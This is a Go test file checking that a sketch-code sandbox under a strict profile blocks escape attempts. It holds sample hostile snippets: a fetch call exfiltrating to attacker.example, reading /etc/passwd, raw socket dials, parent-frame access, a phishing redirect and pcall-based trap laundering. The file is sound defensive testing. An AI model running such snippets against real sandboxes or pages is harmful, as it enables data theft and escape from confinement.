package sandbox

import (
	"context"
	"errors"
	"testing"
	"time"

	"safe-sketch-sandbox/pkg/capset"
)

// TestEscapeAttempts runs known host-reach techniques through a strict
// boundary and asserts each one fails closed: either a recorded capability
// violation or a plain crash, never a completed session.
func TestEscapeAttempts(t *testing.T) {
	tests := []struct {
		name        string
		code        string
		description string
	}{
		{
			name:        "fetch exfiltration",
			code:        `function setup() end function draw() fetch("http://attacker.example/x") end`,
			description: "network honeypot must trip before any request forms",
		},
		{
			name:        "http module probe",
			code:        `function setup() end function draw() local r = http.request("GET", "http://x") end`,
			description: "module trap fires on field access",
		},
		{
			name:        "socket dial",
			code:        `function setup() end function draw() socket.connect("10.0.0.1", 80) end`,
			description: "raw sockets are a denied capability class",
		},
		{
			name:        "file read",
			code:        `function setup() end function draw() io.open("/etc/passwd") end`,
			description: "io is a trap table, not the real library",
		},
		{
			name:        "storage write",
			code:        `function setup() end function draw() storage.set("k", "v") end`,
			description: "persistent storage denied under strict",
		},
		{
			name:        "parent frame reach",
			code:        `function setup() end function draw() local p = parent.document end`,
			description: "host escape attempt through the embedding frame",
		},
		{
			name:        "navigation hijack",
			code:        `function setup() end function draw() navigate("http://phish.example") end`,
			description: "redirecting the host page is denied",
		},
		{
			name:        "window global probe",
			code:        `function setup() end function draw() window.alert("x") end`,
			description: "host object honeypot",
		},
		{
			name:        "code loading",
			code:        `function setup() end function draw() load("fetch('http://x')")() end`,
			description: "load is stripped from the base library",
		},
		{
			name:        "violation laundering via pcall",
			code:        `function setup() end function draw() pcall(fetch, "http://x") end`,
			description: "swallowing the trap error must not yield success",
		},
	}

	r := newTestRunner(t, RunnerConfig{WatchdogInterval: 5 * time.Millisecond})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cand := NewCandidate(tc.code, capset.LevelStrict, nil)
			res, err := r.Execute(context.Background(), cand, capset.StrictProfile(), testLimits())
			if err == nil {
				t.Fatalf("escape attempt succeeded: %s", tc.description)
			}
			if !errors.Is(err, ErrViolation) && !errors.Is(err, ErrCrashed) {
				t.Fatalf("err = %v, want violation or crash (%s)", err, tc.description)
			}
			if res == nil || res.Success {
				t.Fatalf("expected failed result: %s", tc.description)
			}
		})
	}
}

// TestEscapeAttemptsRecordViolations confirms the honeypot paths above do
// not fail silently: a reach leaves a security event on the result.
func TestEscapeAttemptsRecordViolations(t *testing.T) {
	r := newTestRunner(t, RunnerConfig{})
	cand := NewCandidate(
		`function setup() end function draw() parent.postMessage("x") end`,
		capset.LevelStrict, nil,
	)

	res, err := r.Execute(context.Background(), cand, capset.StrictProfile(), testLimits())
	if !errors.Is(err, ErrViolation) {
		t.Fatalf("err = %v, want ErrViolation", err)
	}
	if len(res.Violations) == 0 {
		t.Fatal("no security event recorded for host reach")
	}
	ev := res.Violations[0]
	if ev.Severity != "high" {
		t.Errorf("severity = %q, want high for host reach", ev.Severity)
	}
}
